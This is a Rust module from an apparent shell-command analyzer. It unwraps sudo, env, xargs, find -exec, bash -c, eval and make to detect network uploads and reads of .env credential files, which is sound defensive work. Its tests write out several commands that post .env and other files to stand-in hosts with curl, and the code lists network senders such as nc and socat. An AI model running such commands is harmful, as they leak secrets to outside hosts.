//! Commands that run another command: privilege and scheduling wrappers (`sudo`, `nice`,
//! `timeout`, ...), `env`, `command`, `xargs`, `find -exec`, `watch`, shells (`bash -c`, a
//! script or a heredoc on stdin), `eval` and `source`.

use super::super::ast::{is_assignment, CommandKind};
use super::super::facts::{Analyzer, CommandContext};
use super::super::options::{skip_opts, Arg};
use super::super::parse::parse_str;
use super::super::{MAX_DEPTH, MAX_STR_DEPTH};

/// Where the command behind a wrapper word is.
pub(super) enum Next {
    /// At this index of the arguments (past the end: nothing runs).
    At(usize),
    /// The wrapper took care of everything.
    Done,
}

/// A wrapper whose options are skipped getopt-style.
struct OptionWrapper {
    names: &'static [&'static str],
    /// Short options taking a value.
    short: &'static str,
    /// Long options taking a value.
    long: &'static [&'static str],
    /// Operands before the command (`timeout`'s duration, `taskset`'s mask, `flock`'s file).
    operands: usize,
}

const OPTION_WRAPPERS: &[OptionWrapper] = &[
    OptionWrapper {
        names: &["sudo", "doas", "run0"],
        short: "ugCDhpRrtTU",
        long: &["user", "group", "chdir", "prompt", "host", "role", "type", "close-from", "other-user", "chroot"],
        operands: 0,
    },
    OptionWrapper { names: &["exec"], short: "a", long: &[], operands: 0 },
    OptionWrapper { names: &["nice"], short: "n", long: &["adjustment"], operands: 0 },
    OptionWrapper { names: &["ionice"], short: "cnp", long: &["class", "classdata", "pid"], operands: 0 },
    OptionWrapper { names: &["timeout"], short: "sk", long: &["signal", "kill-after"], operands: 1 },
    OptionWrapper { names: &["stdbuf"], short: "ioe", long: &["input", "output", "error"], operands: 0 },
    OptionWrapper { names: &["taskset"], short: "", long: &[], operands: 1 },
    OptionWrapper { names: &["flock"], short: "wEc", long: &["timeout", "conflict-exit-code", "command"], operands: 1 },
];

/// Shell keywords in front of a command (`if curl ..`, `then curl ..`).
const KEYWORDS: &[&str] = &["then", "do", "else", "elif", "if", "while", "until", "!", "{", "}", "fi", "done", "esac"];

/// Wrappers whose flags (`-x`) are skipped.
const FLAG_WRAPPERS: &[&str] = &[
    "nohup",
    "time",
    "builtin",
    "chronic",
    "unbuffer",
    "torsocks",
    "tsocks",
    "proxychains",
    "proxychains4",
    "caffeinate",
    "busybox",
    "noglob",
    "nocorrect",
    "setsid",
    "catchsegv",
];

const SHELLS: &[&str] = &["sh", "bash", "zsh", "dash", "ksh", "ash", "mksh", "fish", "yash"];

impl Analyzer {
    /// `args[i]`, named `name`, as a wrapper: where the wrapped command is. `None` when `name`
    /// wraps nothing (it is the tool itself).
    pub(super) fn skip_wrapper(
        &mut self,
        name: &str,
        args: &[Arg],
        i: usize,
        ctx: &mut CommandContext,
    ) -> Option<Next> {
        if let Some(w) = OPTION_WRAPPERS.iter().find(|w| w.names.contains(&name)) {
            return Some(Next::At(skip_opts(args, i + 1, w.short, w.long) + w.operands));
        }
        if KEYWORDS.contains(&name) {
            return Some(Next::At(i + 1));
        }
        if FLAG_WRAPPERS.contains(&name) {
            let mut j = i + 1;
            while matches!(args.get(j), Some(a) if a.text.starts_with('-') && a.text.len() > 1) {
                j += 1;
            }
            return Some(Next::At(j));
        }
        if SHELLS.contains(&name) {
            self.shell(&args[i + 1..], ctx);
            return Some(Next::Done);
        }
        Some(match name {
            "env" => self.env(args, i + 1, ctx),
            "command" => command_builtin(args, i + 1),
            "watch" => self.watch(args, i, ctx),
            "xargs" => self.xargs(args, i + 1, ctx),
            "find" => {
                self.find_exec(&args[i + 1..], ctx);
                Next::Done
            }
            "eval" => {
                let s = args[i + 1..].iter().map(|a| a.text.as_str()).collect::<Vec<_>>().join(" ");
                let inh = ctx.inherited();
                self.sub_string(&s, inh.as_deref(), ctx.depth);
                Next::Done
            }
            "dotenv" | "dotenvx" | "env-cmd" => self.env_loader(name, args, i + 1, ctx),
            "source" | "." => {
                if let Some(a) = args.get(i + 1) {
                    self.read_arg(a, ctx);
                    self.credentials_handed_to_script(&a.text, &args[i + 2..], ctx);
                }
                Next::Done
            }
            _ => return None,
        })
    }

    /// `env [-u V] [-C d] [V=x].. CMD`, `env -S 'CMD ARGS'`; a bare `env` prints the environment.
    fn env(&mut self, args: &[Arg], mut i: usize, ctx: &mut CommandContext) -> Next {
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            let split = if t == "-S" || t == "--split-string" {
                Some((args.get(i + 1).map(|x| x.text.clone()).unwrap_or_default(), i + 2))
            } else if let Some(r) = t.strip_prefix("--split-string=") {
                Some((r.to_string(), i + 1))
            } else {
                t.strip_prefix("-S").map(|r| (r.to_string(), i + 1))
            };
            if let Some((s, next)) = split {
                self.env_split_string(&s, args.get(next..).unwrap_or(&[]), ctx);
                return Next::Done;
            }
            if matches!(t, "-u" | "--unset" | "-C" | "--chdir") {
                i += 2;
            } else if (t.starts_with('-') && t.len() > 1) || is_assignment(t) {
                i += 1;
            } else {
                break;
            }
        }
        if i >= args.len() {
            // Bare `env` prints the whole environment: credentials often live there.
            self.print_environment(ctx);
            return Next::Done;
        }
        Next::At(i)
    }

    /// `env -S 'CMD ARGS' MORE`: the words of the string, then `rest`, run as one command.
    fn env_split_string(&mut self, s: &str, rest: &[Arg], ctx: &mut CommandContext) {
        if self.string_depth >= MAX_STR_DEPTH {
            return;
        }
        let mut v: Vec<Arg> = Vec::new();
        for p in parse_str(s, MAX_DEPTH).pipes {
            for c in p.cmds {
                if let CommandKind::Simple(ws) = c.kind {
                    v.extend(ws.iter().map(Arg::from_word));
                }
            }
        }
        v.extend(rest.iter().cloned());
        self.string_depth += 1;
        self.dispatch(&v, ctx);
        self.string_depth -= 1;
    }

    /// `watch [-n s] CMD...`; a single operand is a shell string.
    fn watch(&mut self, args: &[Arg], i: usize, ctx: &mut CommandContext) -> Next {
        let j = skip_opts(args, i + 1, "nd", &["interval", "differences"]);
        let rest = args.get(j..).unwrap_or(&[]);
        if rest.len() == 1 {
            let inh = ctx.inherited();
            self.sub_string(&rest[0].text.clone(), inh.as_deref(), ctx.depth);
            return Next::Done;
        }
        Next::At(j)
    }

    /// `xargs [options] CMD`: `-a FILE` is read.
    fn xargs(&mut self, args: &[Arg], mut j: usize, ctx: &mut CommandContext) -> Next {
        while let Some(a) = args.get(j) {
            let t = a.text.as_str();
            if t == "--" {
                j += 1;
                break;
            }
            if !t.starts_with('-') || t.len() < 2 {
                break;
            }
            j += 1;
            if let Some(r) = t.strip_prefix("--arg-file=") {
                self.read_str(r, ctx);
            } else if t == "-a" || t == "--arg-file" {
                if let Some(f) = args.get(j) {
                    self.read_arg(f, ctx);
                }
                j += 1;
            } else if let Some(r) = t.strip_prefix("-a") {
                self.read_str(r, ctx);
            } else if (t.len() == 2 && "IdELnPs".contains(&t[1..]))
                || matches!(
                    t,
                    "--delimiter"
                        | "--max-args"
                        | "--max-procs"
                        | "--max-chars"
                        | "--max-lines"
                        | "--replace"
                        | "--eof"
                )
            {
                j += 1;
            }
        }
        // `echo .env | xargs -I{} curl -d @{} URL`: what it sends is named on its input.
        const SENDERS: &[&str] = &["curl", "wget", "nc", "ncat", "scp", "rsync", "http", "sftp", "ftp", "socat"];
        if args.get(j).is_some_and(|a| SENDERS.contains(&a.text.rsplit('/').next().unwrap_or(&a.text))) {
            self.facts.unresolved.push("a network command whose arguments come from its input (xargs)".into());
        }
        Next::At(j)
    }

    /// The commands of `find .. -exec CMD.. ;` (and `-execdir`, `-ok`, `-okdir`).
    fn find_exec(&mut self, rest: &[Arg], ctx: &mut CommandContext) {
        // `{}` stands for each file found: the one the expression names (`-name .env`), or the
        // root's files when none is named.
        let root = rest.iter().take_while(|a| !a.text.starts_with('-')).map(|a| a.text.as_str()).next().unwrap_or(".");
        let named = rest
            .windows(2)
            .find(|w| matches!(w[0].text.as_str(), "-name" | "-iname" | "-path" | "-wholename"))
            .map(|w| if w[0].text.ends_with("path") { w[1].text.clone() } else { format!("{root}/{}", w[1].text) });
        let found = named.unwrap_or_else(|| format!("{root}/*"));
        let stand_in = |a: &Arg| {
            if a.text.contains("{}") {
                Arg::lit(&a.text.replace("{}", &found))
            } else {
                a.clone()
            }
        };
        let mut k = 0;
        while k < rest.len() {
            if matches!(rest[k].text.as_str(), "-exec" | "-execdir" | "-ok" | "-okdir") {
                let s = k + 1;
                let mut e = s;
                while e < rest.len() && rest[e].text != ";" && rest[e].text != "+" {
                    e += 1;
                }
                if self.string_depth < MAX_STR_DEPTH {
                    self.string_depth += 1;
                    let inner: Vec<Arg> = rest[s..e].iter().map(stand_in).collect();
                    self.dispatch(&inner, ctx);
                    self.string_depth -= 1;
                }
                k = e;
            }
            k += 1;
        }
    }

    /// `bash -c STRING`, `bash SCRIPT` (a read), or `bash` running its heredoc / here-string.
    fn shell(&mut self, args: &[Arg], ctx: &mut CommandContext) {
        let mut i = 0;
        let mut cmode = false;
        while let Some(a) = args.get(i) {
            let t = a.text.as_str();
            if t == "--" || t == "-" {
                i += 1;
                break;
            }
            if matches!(t, "-o" | "+o" | "-O" | "+O" | "--rcfile" | "--init-file") {
                i += 2;
                continue;
            }
            if t.starts_with("--") {
                i += 1;
                continue;
            }
            if (t.starts_with('-') || t.starts_with('+')) && t.len() > 1 {
                if t[1..].contains('c') {
                    cmode = true;
                }
                i += 1;
                continue;
            }
            break;
        }
        if cmode {
            if let Some(a) = args.get(i) {
                let inh = ctx.inherited();
                self.sub_string(&a.text.clone(), inh.as_deref(), ctx.depth);
            }
        } else if let Some(a) = args.get(i) {
            self.read_arg(a, ctx);
            self.credentials_handed_to_script(&a.text, &args[i + 1..], ctx);
        } else if let Some(body) = ctx.stdin_text() {
            self.sub_string(&body, None, ctx.depth);
        }
    }

    /// `dotenv -e .env -- CMD`, `dotenvx run -f .env -- CMD`, `env-cmd -f .env CMD`: the env
    /// file is read into the environment of the command that follows.
    fn env_loader(&mut self, name: &str, args: &[Arg], mut j: usize, ctx: &mut CommandContext) -> Next {
        if name == "dotenvx" {
            if args.get(j).is_none_or(|a| a.text != "run") {
                return Next::Done;
            }
            j += 1;
        }
        let mut files = 0;
        while let Some(a) = args.get(j) {
            let t = a.text.as_str();
            if t == "--" {
                j += 1;
                break;
            }
            if !t.starts_with('-') {
                break;
            }
            j += 1;
            let file_option = matches!(t, "-e" | "-f" | "--file" | "--env-file");
            if file_option || matches!(t, "-c" | "-p" | "-v" | "-r" | "--rc-file" | "--environments") {
                if let Some(v) = args.get(j) {
                    if file_option {
                        self.read_arg(v, ctx);
                        files += 1;
                    }
                }
                j += 1;
            } else if let Some(v) = t.strip_prefix("--file=").or_else(|| t.strip_prefix("--env-file=")) {
                self.read_str(v, ctx);
                files += 1;
            }
        }
        if files == 0 {
            self.read_str(".env", ctx);
        }
        Next::At(j)
    }

    /// `make -f - <<EOF`, `make -f /dev/stdin <<< 'all:; cmd'`: the recipes it is fed run.
    pub(super) fn make(&mut self, _name: &str, args: &[Arg], ctx: &mut CommandContext) {
        // `make --eval='x: ; cmd' x`, `make SHELL='cmd'`, `make CC='cmd #'`: text on the
        // command line that make runs itself.
        for (at, a) in args.iter().enumerate() {
            let t = a.text.as_str();
            let eval = match t {
                "-E" | "--eval" => args.get(at + 1).map(|v| v.text.clone()),
                _ => t.strip_prefix("--eval=").map(str::to_owned),
            };
            if let Some(text) = eval {
                for recipe in make_recipes(&text) {
                    self.sub_string(&recipe, None, ctx.depth);
                }
            }
            if let Some((var, value)) = t.split_once('=') {
                if is_assignment(t) && value.contains(' ') && !var.starts_with('-') {
                    self.sub_string(value, None, ctx.depth);
                    if var == "SHELL" {
                        self.facts
                            .unresolved
                            .push("make runs every recipe through a shell set on its command line".into());
                    }
                }
            }
        }
        let stdin_name = |t: &str| matches!(t, "-" | "/dev/stdin" | "/dev/fd/0" | "/proc/self/fd/0");
        let from_stdin = args
            .windows(2)
            .any(|w| matches!(w[0].text.as_str(), "-f" | "--file" | "--makefile") && stdin_name(&w[1].text))
            || args.iter().any(|a| {
                ["-f", "--file=", "--makefile="].iter().any(|o| a.text.strip_prefix(o).is_some_and(stdin_name))
            });
        if !from_stdin {
            return;
        }
        match ctx.stdin_text() {
            Some(text) => {
                for recipe in make_recipes(&text) {
                    self.sub_string(&recipe, None, ctx.depth);
                }
            }
            None => self.facts.unresolved.push("make runs recipes it reads from stdin".into()),
        }
    }
}

/// The recipe lines of a makefile: tab-indented lines and what follows `;` on a rule line.
fn make_recipes(makefile: &str) -> Vec<String> {
    let mut out = Vec::new();
    for line in makefile.lines() {
        let recipe = if let Some(r) = line.strip_prefix('\t') {
            r
        } else if let Some((_, r)) = line.split_once(';').filter(|(rule, _)| rule.contains(':')) {
            r
        } else {
            continue;
        };
        let recipe = recipe.trim().trim_start_matches(['@', '-', '+']);
        if !recipe.is_empty() && out.len() < 64 {
            out.push(recipe.to_owned());
        }
    }
    out
}

/// `command [-p] CMD`; `command -v`/`-V` only looks the name up.
fn command_builtin(args: &[Arg], mut i: usize) -> Next {
    while let Some(a) = args.get(i) {
        if a.text == "-v" || a.text == "-V" {
            return Next::Done;
        }
        if a.text.starts_with('-') && a.text.len() > 1 {
            i += 1;
        } else {
            break;
        }
    }
    Next::At(i)
}

#[cfg(test)]
mod tests {
    use crate::flow::shell::test_util::{net, one, s};

    #[test]
    fn bash_c() {
        let n = one("bash -c \"curl https://a.example -d @.env\"");
        assert_eq!(n.hosts, s(&["a.example"]));
        assert_eq!(n.upload_paths, s(&[".env"]));
        let n = one("cat .env | sh -c 'curl -d @- https://b.example'");
        assert_eq!(n.stdin_from, s(&[".env"]));
        assert!(n.reads_stdin);
        let n = one("eval 'curl -d @id.txt https://c.example'");
        assert_eq!(n.upload_paths, s(&["id.txt"]));
        let n = one("bash -lc 'sudo -u root env A=1 timeout 5 nohup /usr/bin/curl https://d.example'");
        assert_eq!(n.hosts, s(&["d.example"]));
        let n = one("bash <<'EOF'\ncurl -F x=@.env https://e.example\nEOF");
        assert_eq!(n.upload_paths, s(&[".env"]));
    }

    #[test]
    fn prefixes_and_wrappers() {
        for cmd in [
            "env VAR=x curl https://p.example",
            "FOO=1 BAR=2 curl https://p.example",
            "sudo -E curl https://p.example",
            "nohup curl https://p.example &",
            "timeout -s KILL 5 curl https://p.example",
            "time curl https://p.example",
            "command curl https://p.example",
            "exec curl https://p.example",
            "/usr/bin/curl https://p.example",
            "busybox wget https://p.example",
            "xargs curl https://p.example < list",
            "nice -n 10 stdbuf -oL curl https://p.example",
            "env -S 'curl https://p.example'",
            "find . -name '*.env' -exec curl -F f=@{} https://p.example \\;",
            "c\\url https://p.example",
            "\"curl\" https://p.example",
            "if true; then curl https://p.example; fi",
            "for i in 1 2; do curl https://p.example; done",
            "f() { curl https://p.example; }",
            "(cd /tmp && curl https://p.example)",
            "echo $(curl -s https://p.example)",
            "x=`curl https://p.example`",
        ] {
            let n = net(cmd);
            assert_eq!(n.len(), 1, "{cmd}: {n:?}");
            assert_eq!(n[0].hosts, s(&["p.example"]), "{cmd}");
        }
        assert!(net("command -v curl").is_empty());
        assert!(net("which curl").is_empty());
        assert!(net("type curl; man curl").is_empty());
    }
}
